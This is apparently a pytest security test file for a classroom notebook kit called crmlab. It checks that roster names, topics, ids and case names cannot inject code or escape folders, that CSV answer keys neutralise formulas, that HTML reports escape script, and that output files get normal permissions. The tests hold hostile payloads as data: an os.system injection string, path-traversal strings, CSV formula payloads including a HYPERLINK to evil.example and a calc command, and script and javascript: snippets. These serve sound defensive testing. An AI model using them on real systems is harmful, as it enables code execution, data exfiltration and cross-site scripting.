"""Security (issue 13, part 2): data are never code, paths never escape, outputs get the usual mode.

Payloads are the ones seen in the issue: a roster name with an embedded
newline that became code, ``--topic`` paths that left ``--out`` or handed out
solutions, ids ``.``/``..``, a case name with ``../``, ``=HYPERLINK(...)`` in
the answer key, ``<script>`` in the HTML report, and 0600 output files.
"""

from __future__ import annotations

import ast
import csv
import os
import re
import stat
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from crmlab import CRMDataError, _io, assign, cli, report

TOPIC = "01_satisfaction"
INJECTION = "x\nimport os; os.system('touch PWNED')"


def write_roster(path: Path, rows: list[tuple[str, str]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["student_id", "name"])
        w.writerows(rows)
    return path


def params_cell(nb_path: Path):
    nb = nbformat.read(str(nb_path), as_version=4)
    return nb, next(c for c in nb.cells if "parameters" in c.metadata.get("tags", []))


def constant_assignments(source: str) -> dict:
    """The parameters cell as {name: value}; fails unless it is nothing but `name = <constant>` lines."""
    tree = ast.parse(source)
    out = {}
    for node in tree.body:
        assert isinstance(node, ast.Assign), ast.dump(node)
        assert len(node.targets) == 1 and isinstance(node.targets[0], ast.Name), ast.dump(node)
        assert isinstance(node.value, ast.Constant), ast.dump(node)
        out[node.targets[0].id] = node.value.value
    return out


# ------------------------------------------------------------ data are never code
def test_newline_name_is_refused_and_nothing_runs(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    roster = write_roster(tmp_path / "r.csv", [("s001", "Li Wei"), ("s002", INJECTION)])
    with pytest.raises(CRMDataError, match=r"row 2, column name: .*U\+000A.*Fix"):
        assign.read_roster(roster)
    with pytest.raises(CRMDataError, match="row 2, column name"):
        assign.assign(TOPIC, roster, tmp_path / "out")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize("ch", ["\n", "\r", "\t", "\x00", "\x1b", "\u2028", "\u2029", "\u202a", "\u202b",
                                "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b",
                                "\ufeff"])
def test_control_characters_in_names_are_refused(tmp_path, ch):
    roster = write_roster(tmp_path / "r.csv", [("s001", f"Li{ch}Wei")])
    with pytest.raises(CRMDataError, match=rf"row 1, column name.*U\+{ord(ch):04X}"):
        assign.read_roster(roster)
    with pytest.raises(CRMDataError, match=rf"name: .*U\+{ord(ch):04X}"):
        assign.personalise(nbformat.v4.new_notebook(), "s001", f"Li{ch}Wei", 1)


TRICKY = ["Robert'); import os #", 'He said "hi" \\ and \\n', "王芳", "'''", '"""\\', "=HYPERLINK(\"http://x\",\"y\")",
          "Ünïcödé Çafé", "a # b", "{seed}", "%(x)s $HOME `id`"]


def test_tricky_names_land_verbatim_as_string_constants(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rows = [(f"s{i:03d}", name) for i, name in enumerate(TRICKY)]
    roster = write_roster(tmp_path / "r.csv", rows)
    nbs, key = assign.assign(TOPIC, roster, tmp_path / "out")
    assert len(nbs) == len(TRICKY)
    for (sid, name), path in zip(rows, nbs):
        nb, cell = params_cell(path)
        values = constant_assignments(cell.source)
        assert values["student_name"] == name and values["student_id"] == sid
        assert values["seed"] == assign.student_seed(sid)
        assert nb.metadata["crmlab"]["assignment"] == {"student_id": sid, "name": name, "seed": values["seed"]}
        assert name not in cell.source.split("student_name = ", 1)[0]  # no comment or other copy of the name
        ns: dict = {}
        exec(compile(cell.source, "parameters", "exec"), ns)  # safe: checked above to be constants only
        assert ns["student_name"] == name
    assert not (tmp_path / "PWNED").exists()
    got = list(csv.DictReader(key.open(encoding="utf-8")))
    assert [r["name"] for r in got] == [_io.excel_safe(n) for n in TRICKY]


def test_personalise_writes_data_only(tmp_path):
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("seed = 42  # yours\nn = 10",
                                                                   metadata={"tags": ["parameters"]})])
    out = assign.personalise(nb, "s-1.A_b", "Robert'); import os #", 7)
    assert constant_assignments(out.cells[0].source) == {"student_id": "s-1.A_b",
                                                        "student_name": "Robert'); import os #",
                                                        "seed": 7, "n": 10}
    assert nb.cells[0].source == "seed = 42  # yours\nn = 10"  # the caller's notebook is not changed


# ------------------------------------------------------------ topics and paths
@pytest.mark.parametrize("topic", ["../exercises/01_satisfaction", "solutions/01_satisfaction",
                                   "01_satisfaction/../01_satisfaction", "./01_satisfaction",
                                   "01_satisfaction.ipynb", "01_SATISFACTION", " 01_satisfaction", ""])
def test_topic_takes_only_listed_names(tmp_path, topic):
    roster = write_roster(tmp_path / "r.csv", [("s001", "Li")])
    with pytest.raises(CRMDataError, match=r"topic: .* choose one of 01_satisfaction, .*Fix"):
        assign.assign(topic, roster, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_absolute_topic_does_not_write_into_the_kit(tmp_path):
    roster = write_roster(tmp_path / "r.csv", [("s001", "Li")])
    before = sorted(p.name for p in (assign.ROOT / "exercises").iterdir())
    absolute = str(assign.ROOT / "exercises" / TOPIC)
    with pytest.raises(CRMDataError, match="topic"):
        assign.assign(absolute, roster, tmp_path / "out")
    assert sorted(p.name for p in (assign.ROOT / "exercises").iterdir()) == before


def test_solutions_are_never_topics():
    names = assign.topics()
    assert TOPIC in names and not any("solution" in n or "/" in n for n in names)
    sols = [p.stem for p in (assign.ROOT / "exercises" / "solutions").glob("*.ipynb")]
    assert sols and all(f"solutions/{s}" not in names for s in sols)


@pytest.mark.parametrize("sid", [".", "..", "...", "a/b", "../x", "a\\b", "a b", "s:1", "王", "s*", "C:x", "x" * 65])
def test_unsafe_ids_are_refused(tmp_path, sid):
    roster = write_roster(tmp_path / "r.csv", [("s001", "Li"), (sid, "Wang")])
    with pytest.raises(CRMDataError, match=r"row 2, column student_id: .*(ASCII letters, digits|U\+)"):
        assign.read_roster(roster)


def test_duplicate_ids_name_both_rows(tmp_path):
    roster = write_roster(tmp_path / "r.csv", [("s001", "Li"), ("s002", "Wang"), ("S001", "Zhao")])
    with pytest.raises(CRMDataError, match=r"row 3, column student_id: duplicate id 'S001' \(also in row 1"):
        assign.read_roster(roster)


def test_inside_refuses_escapes(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    assert _io.inside(out, "a.ipynb") == (out / "a.ipynb").resolve()
    assert _io.inside(out, "sub/a.ipynb") == (out / "sub" / "a.ipynb").resolve()
    (out / "link").symlink_to(tmp_path)
    for name in ["../a.ipynb", "/etc/passwd", "sub/../../a", "", ".", "link/a.ipynb", str(tmp_path / "a")]:
        with pytest.raises(CRMDataError, match="outside the output folder"):
            _io.inside(out, name)


@pytest.mark.parametrize("case", ["../x", "hotpot/../../x", "../../tmp/pwned", "/tmp/hotpot", "hotpot\n"])
def test_case_names_are_checked_before_any_path(tmp_path, case):
    with pytest.raises(CRMDataError, match="column case: .*Fix"):
        report.make_job(case)
    job = report.Job(case)  # built by hand, without make_job: no file name from it
    with pytest.raises(CRMDataError, match="make_job"):
        job.stem
    with pytest.raises(CRMDataError, match="make_job"):
        report.run_report(job, tmp_path / "out")
    assert not any(tmp_path.rglob("*.ipynb"))


@pytest.mark.parametrize("kw, col", [({"lang": "fr"}, "lang"), ({"lang": "en/../x"}, "lang"),
                                     ({"seed": -1}, "seed"), ({"seed": "1.5"}, "seed"), ({"seed": 2.5}, "seed"),
                                     ({"seed": True}, "seed"), ({"seed": "../1"}, "seed"),
                                     ({"n_customers": 0}, "n_customers"), ({"n_customers": "2e3"}, "n_customers")])
def test_make_job_checks_every_parameter(kw, col):
    with pytest.raises(CRMDataError, match=rf"row 3, column {col}: .*Fix"):
        report.make_job("hotpot", row=3, **kw)


def test_make_job_accepts_text_from_csv_and_cli():
    job = report.make_job(" Hotel ", "7", "ZH", "300")
    assert (job.case, job.seed, job.lang, job.n_customers) == ("hotel", 7, "zh", 300)
    assert job.stem == "hotel_s7_zh_n300"


# ------------------------------------------------------------ CSV injection
def test_excel_safe():
    assert _io.excel_safe("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
    for s in ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=1"]:
        assert _io.excel_safe(s) == "'" + s
    for s in ["-3.5", "+2", "-1e-3", "Li", "", "a=b", "3-2"]:
        assert _io.excel_safe(s) == s
    assert _io.excel_safe(-3.5) == -3.5 and _io.excel_safe(-2) == -2 and _io.excel_safe(None) is None


def test_write_csv_neutralises_text_cells_only(tmp_path):
    df = pd.DataFrame({"name": ["=cmd()", "Li", "-x"], "value": [-3.5, 1.0, -2.0], "n": [-1, 0, 2]})
    path = _io.write_csv(tmp_path / "a.csv", df)
    assert path.read_text(encoding="utf-8") == "name,value,n\n'=cmd(),-3.5,-1\nLi,1.0,0\n'-x,-2.0,2\n"
    assert df["name"].tolist() == ["=cmd()", "Li", "-x"]  # the caller's frame is not changed
    path = _io.write_csv(tmp_path / "b.csv", [{"a": "@x", "b": -1.5}, {"a": "ok", "b": "-0.25"}])
    assert path.read_text(encoding="utf-8") == "a,b\n'@x,-1.5\nok,-0.25\n"


def test_answer_key_has_no_formula_cells(tmp_path):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    roster = write_roster(tmp_path / "r.csv", [("s001", payload), ("s002", "@SUM(1+1)*cmd|' /C calc'!A0")])
    _, key = assign.assign("05_gap_servqual", roster, tmp_path / "out")
    rows = list(csv.reader(key.open(encoding="utf-8")))
    cells = [c for r in rows for c in r]
    assert rows[1][1] == "'" + payload
    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or
           (c.startswith("-") and not _io._PLAIN_NUMBER.fullmatch(c))]
    assert bad == []


# ------------------------------------------------------------ HTML report
PAYLOAD = "<script>alert(1)</script>"
LINK = "[click](javascript:alert(2))"


@pytest.fixture(scope="module")
def poisoned():
    from crmlab import cases

    n = report.assess(cases.generate("b2b", seed=1, n_customers=100), "b2b")
    for k in ("csi_low_segment", "top_driver", "weakest_attribute", "top_category", "top_channel",
              "largest_gap_dim", "smallest_gap_dim", "top_strategy"):
        n[k] = f"{PAYLOAD}{LINK}"
    return n


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_sentences_escape_user_text(poisoned, lang):
    sections = [report.satisfaction_sentence(poisoned, lang), report.interaction_sentence(poisoned, lang),
                report.servqual_sentence(poisoned, lang)]
    texts = report.conclusions(poisoned, lang) + report.measures(poisoned, lang) + sections
    joined = "\n".join(texts)
    assert "<script" not in joined and not re.search(r"(?<!\\)\]\(javascript", joined)
    assert joined.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 7
    for section in report.SECTIONS:
        html = report.key_figures(poisoned, section, lang)._repr_html_()
        assert "<script" not in html


def test_html_report_shows_user_text_escaped(poisoned, tmp_path):
    outputs = [nbformat.v4.new_output("display_data", {"text/markdown": s, "text/plain": "<Markdown>"})
               for s in report.conclusions(poisoned, "en") + report.measures(poisoned, "en")]
    table = report.key_figures(poisoned, "satisfaction", "en")
    outputs.append(nbformat.v4.new_output("display_data", {"text/html": table._repr_html_(), "text/plain": "t"}))
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("pass", outputs=outputs, execution_count=1)])
    src = tmp_path / "r.ipynb"
    nbformat.write(nb, str(src))
    html = report.export_html(src, tmp_path / "r.html").read_text(encoding="utf-8")
    assert PAYLOAD not in html and 'href="javascript' not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# ------------------------------------------------------------ permissions
@pytest.fixture
def umask():
    old = os.umask(0o022)
    os.umask(old)

    def set_(mask):
        os.umask(mask)
    yield set_
    os.umask(old)


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.parametrize("mask, expected", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_atomic_write_respects_umask(tmp_path, umask, mask, expected):
    umask(mask)
    assert mode(_io.atomic_write_text(tmp_path / "a.txt", "x")) == expected
    assert mode(_io.write_csv(tmp_path / "a.csv", [{"a": 1}])) == expected
    assert _io._umask() == mask


def test_atomic_write_keeps_the_mode_of_the_file_it_replaces(tmp_path, umask):
    umask(0o022)
    p = tmp_path / "key.csv"
    p.write_text("old")
    p.chmod(0o640)
    _io.atomic_write_text(p, "new")
    assert mode(p) == 0o640 and p.read_text() == "new"


def test_assignments_and_key_get_the_usual_mode(tmp_path, umask):
    umask(0o022)
    roster = write_roster(tmp_path / "r.csv", [("s001", "Li")])
    nbs, key = assign.assign(TOPIC, roster, tmp_path / "out")
    assert [mode(p) for p in [*nbs, key]] == [0o644, 0o644]
    umask(0o077)
    nbs, key = assign.assign(TOPIC, roster, tmp_path / "out2")
    assert [mode(p) for p in [*nbs, key]] == [0o600, 0o600]


def test_executed_notebook_and_html_get_the_usual_mode(tmp_path, umask):
    from crmlab import runner

    umask(0o022)
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print(1)")],
                                  metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                           "language": "python"}})
    src = tmp_path / "n.ipynb"
    nbformat.write(nb, str(src))
    out = runner.execute(src, tmp_path / "out" / "n.ipynb")
    html = report.export_html(out, tmp_path / "out" / "n.html")
    assert mode(out) == 0o644 and mode(html) == 0o644


# ------------------------------------------------------------ CLI and rosters
def test_cli_assign_out_is_a_file(tmp_path, capsys):
    roster = write_roster(tmp_path / "r.csv", [("s001", "Li")])
    afile = tmp_path / "taken.txt"
    afile.write_text("x")
    code = cli.main(["assign", "--topic", TOPIC, "--roster", str(roster), "--out", str(afile)])
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err
    assert err.startswith("crmlab: error: --out") and "is a file, not a folder" in err
    with pytest.raises(CRMDataError, match="cannot create the folder"):
        cli.run(["assign", "--topic", TOPIC, "--roster", str(roster), "--out", str(afile / "sub")])
    assert afile.read_text() == "x"


@pytest.mark.parametrize("encoding", ["gbk", "utf-16", "utf-8-sig", "gb18030"])
def test_rosters_in_excel_encodings(tmp_path, encoding):
    roster = write_roster(tmp_path / "r.csv", [("s001", "王芳"), ("s002", "李伟")], encoding=encoding)
    assert assign.read_roster(roster) == [{"student_id": "s001", "name": "王芳"},
                                          {"student_id": "s002", "name": "李伟"}]


@pytest.mark.parametrize("text, match", [
    ("", "the file is empty"),
    ("student_id,name\n", "no students"),
    ("student_id,name\n\n , \n", "no students"),
    ("id,name\ns1,Li\n", "missing column student_id"),
    ("student_id\ns1\n", "missing column name"),
    ("student_id,name\ns1,Li\n,Wang\n", "row 2, column student_id: empty"),
    ("student_id,name\ns1,Wang, Fang\n", "row 1 has 3 fields but the header has 2"),
    ("student_id,name,student_id\ns1,Li,s2\n", "student_id appears more than once"),
])
def test_roster_errors(tmp_path, text, match):
    p = tmp_path / "r.csv"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(CRMDataError, match=match) as info:
        assign.read_roster(p)
    assert "Fix" in str(info.value)
